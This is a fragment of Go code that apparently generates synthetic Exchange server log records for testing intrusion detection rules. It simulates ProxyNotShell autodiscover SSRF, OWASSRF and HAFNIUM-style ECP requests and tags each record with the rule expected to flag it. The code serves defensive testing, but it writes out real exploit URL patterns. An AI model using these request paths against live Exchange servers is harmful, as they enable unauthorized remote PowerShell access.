		r.rps = &rpsRow{user: u.dom, stem: "/powershell", clientInfo: uaPSRP.raw, action: action, session: session}
		r.expect(logRps, ruleRpsClient, exploit)
	}
	for i := range 4 {
		q := "@" + dom + "/powershell/?&Email=autodiscover/autodiscover.json%3F@" + dom
		r := g.hit(t, ip, uaPSRP, "POST", "/autodiscover/autodiscover.json", q, pAutodiscover)
		r.user, r.authUser = u.dom, u.upn
		r.beStem, r.beQuery = "/powershell", ""
		r.anchor, r.routingHint = "Smtp~"+u.upn, "UserAuth-Smtp"
		rps(r, []string{"Create", "Command", "Receive", "Delete"}[i])
		g.send(r.expect(logFE, ruleProxyNotShell, exploit).expect(logProxy, ruleProxyNotShell, exploit).expect(logFE, sigmaProxyShellOK, attempt))
		t += g.jitter(second, 10*second)
	}
	t += g.jitter(10*minute, 3*hour)
	for i := range 6 {
		r := g.hit(t, ip, uaPSRP, "POST", "/owa/mastermailbox%40outlook.com/powershell", "", pOwa)
		r.user, r.authUser = u.dom, u.upn
		r.beStem, r.beQuery = "/powershell", ""
		r.anchor, r.routingHint = "Smtp~mastermailbox@outlook.com", "Url-Email"
		rps(r, []string{"Create", "Command", "Receive", "Command", "Receive", "Delete"}[i])
		g.send(r.expect(logFE, ruleOWASSRF, exploit).expect(logProxy, ruleOWASSRF, exploit))
		t += g.jitter(second, 20*second)
	}
}

// knownIP is traffic from an address on the Volexity/CISA list: an OWA
// visit and a HAFNIUM-style POST to /ecp/default.flt, refused.
func (g *gen) knownIP(t int64) {
	ip := volexityIPs[g.rng.IntN(len(volexityIPs))]
	r := g.hit(t, ip, uaMozilla, "GET", "/owa/", "", pOwa)
	r.status, r.be, r.beStatus, r.routingType = 302, false, 0, ""
	g.send(r.expect(logFE, ruleKnownIP, recon).expect(logProxy, ruleKnownIP, recon))
	t += g.jitter(second, 5*minute)
	r = g.hit(t, ip, uaMozilla, "POST", "/ecp/default.flt", "", pEcp)
	g.beResource(r, g.ssrfAnchor("a]", "/autodiscover/autodiscover.xml?"), 500, 0, "", "")
	g.send(r.expect(logFE, ruleKnownIP, recon).expect(logFE, ruleStaticPost, attempt).
		expect(logProxy, ruleKnownIP, recon).expect(logProxy, ruleSSRF, attempt))
}
